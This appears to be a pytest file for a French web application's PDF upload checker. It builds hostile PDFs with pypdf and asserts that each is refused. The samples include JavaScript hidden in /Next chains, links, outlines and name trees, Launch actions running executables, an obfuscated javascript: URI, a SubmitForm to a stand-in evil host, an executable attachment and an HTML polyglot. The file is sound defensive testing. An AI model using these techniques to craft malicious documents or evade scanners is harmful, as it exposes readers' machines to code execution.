"""Issue 15 item 5: a PDF reaches council staff's readers, so any action a reader could run, wherever it hides
(chained by /Next, in an array, behind an annotation or an outline, in the name tree), is refused in French.
Every hostile file is built with pypdf itself; benign chains and cycles still pass."""

from __future__ import annotations

from io import BytesIO

import pytest
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, ByteStringObject, DictionaryObject, FloatObject, NameObject, TextStringObject

from web.fichiers.usages import PHOTOS_ANNONCE
from web.fichiers.verifier import FichierRefuse, verifier

ACTIF = "« scan.pdf » contient du code ou des fichiers joints : ce PDF n'est pas accepté."


def _n(nom: str) -> NameObject:
    return NameObject(nom)


def action(w: PdfWriter, s: str, **cles):
    """An indirect action dictionary (/S s) with extra keys, as a reader would follow it."""
    return w._add_object(DictionaryObject({_n("/Type"): _n("/Action"), _n("/S"): _n(s),
                                           **{_n("/" + k): v for k, v in cles.items()}}))


def goto(w: PdfWriter, **cles):
    destination = ArrayObject([w.pages[0].indirect_reference, _n("/Fit")])
    return action(w, "/GoTo", D=destination, **cles)


def js(w: PdfWriter):
    return action(w, "/JavaScript", JS=TextStringObject("app.alert(1)"))


def lien(w: PdfWriter, a) -> None:
    """A link annotation on the first page whose action is `a`."""
    annotation = w._add_object(DictionaryObject({
        _n("/Type"): _n("/Annot"), _n("/Subtype"): _n("/Link"), _n("/A"): a,
        _n("/Rect"): ArrayObject([FloatObject(0), FloatObject(0), FloatObject(50), FloatObject(50)])}))
    w.pages[0][_n("/Annots")] = ArrayObject([annotation])


def ouvrir(w: PdfWriter, a) -> None:
    w._root_object[_n("/OpenAction")] = a


def fabriquer(modifier) -> bytes:
    w = PdfWriter()
    w.add_blank_page(200, 200)
    modifier(w)
    out = BytesIO()
    w.write(out)
    return out.getvalue()


def chaine_longue(w: PdfWriter) -> None:
    suivante = js(w)
    for _ in range(3000):  # deeper than Python's recursion limit: the walk is iterative
        suivante = goto(w, Next=suivante)
    ouvrir(w, suivante)


def cycle_avec_js(w: PdfWriter) -> None:
    premiere = goto(w)
    seconde = goto(w, Next=ArrayObject([premiere, js(w)]))
    premiere.get_object()[_n("/Next")] = seconde
    ouvrir(w, premiere)


def plan(w: PdfWriter, a) -> None:
    item = w.add_outline_item("Sommaire", 0)
    item.get_object()[_n("/A")] = a
    item.get_object().pop(_n("/Dest"), None)


HOSTILES = {
    "OpenAction → Next → JavaScript": lambda w: ouvrir(w, goto(w, Next=js(w))),
    "OpenAction → Next [GoTo, JavaScript]": lambda w: ouvrir(w, goto(w, Next=ArrayObject([goto(w), js(w)]))),
    "OpenAction → Next → Launch": lambda w: ouvrir(w, goto(w, Next=action(w, "/Launch",
                                                                          F=TextStringObject("calc.exe")))),
    "lien → A → Next → JavaScript": lambda w: lien(w, goto(w, Next=js(w))),
    "lien → A → Next → Launch": lambda w: lien(w, goto(w, Next=action(w, "/Launch", F=TextStringObject("x.exe")))),
    "lien URI javascript: (chaîne hexadécimale)": lambda w: lien(w, action(
        w, "/URI", URI=ByteStringObject(b"javascript:app.alert(1)"))),
    "lien URI java\\tscript: en casse mélangée": lambda w: lien(w, action(
        w, "/URI", URI=ByteStringObject(b" \x01JaVa\tScRiPt:app.alert(1)"))),
    "Names/JavaScript": lambda w: w._root_object.__setitem__(_n("/Names"), DictionaryObject({
        _n("/JavaScript"): DictionaryObject({_n("/Names"): ArrayObject([TextStringObject("x"), js(w)])})})),
    "clé /JS sur une action GoTo": lambda w: ouvrir(w, goto(w, JS=TextStringObject("app.alert(1)"))),
    "SubmitForm": lambda w: lien(w, action(w, "/SubmitForm", F=TextStringObject("https://evil.example/"))),
    "ImportData": lambda w: ouvrir(w, action(w, "/ImportData", F=TextStringObject("donnees.fdf"))),
    "fichier joint": lambda w: w.add_attachment("x.exe", b"MZ"),
    "plan → A → Next → JavaScript": lambda w: plan(w, goto(w, Next=js(w))),
    "page /AA": lambda w: w.pages[0].__setitem__(_n("/AA"), DictionaryObject({_n("/O"): js(w)})),
    "chaîne de 3 000 actions puis JavaScript": chaine_longue,
    "cycle qui mène à JavaScript": cycle_avec_js,
}


def refus(contenu: bytes) -> str:
    with pytest.raises(FichierRefuse) as exc:
        verifier(PHOTOS_ANNONCE, "scan.pdf", contenu)
    return str(exc.value)


@pytest.mark.parametrize("cas", list(HOSTILES))
def test_every_reachable_active_action_is_refused_in_french(cas):
    assert refus(fabriquer(HOSTILES[cas])) == ACTIF


def test_encrypted_and_html_polyglots_are_refused():
    assert refus(fabriquer(lambda w: w.encrypt("secret"))) == \
        "« scan.pdf » est protégé par un mot de passe : enregistrez-le sans protection."
    assert refus(b"%PDF-1.7\n<!doctype html><html><body onload=alert(1)></body></html>\n%%EOF\n") == \
        "« scan.pdf » n'est pas un PDF valide."


def cycle_inoffensif(w: PdfWriter) -> None:
    premiere = goto(w)
    premiere.get_object()[_n("/Next")] = goto(w, Next=premiere)
    ouvrir(w, premiere)


@pytest.mark.parametrize("modifier", [
    cycle_inoffensif,  # /Next loops back: the walk ends, nothing active
    lambda w: lien(w, action(w, "/URI", URI=TextStringObject("https://www.ordre.medecin.fr/"))),
    lambda w: plan(w, goto(w)),
], ids=["cycle de GoTo", "lien https", "plan GoTo"])
def test_benign_links_chains_and_cycles_pass(modifier):
    contenu = fabriquer(modifier)
    assert verifier(PHOTOS_ANNONCE, "plan.pdf", contenu).contenu == contenu
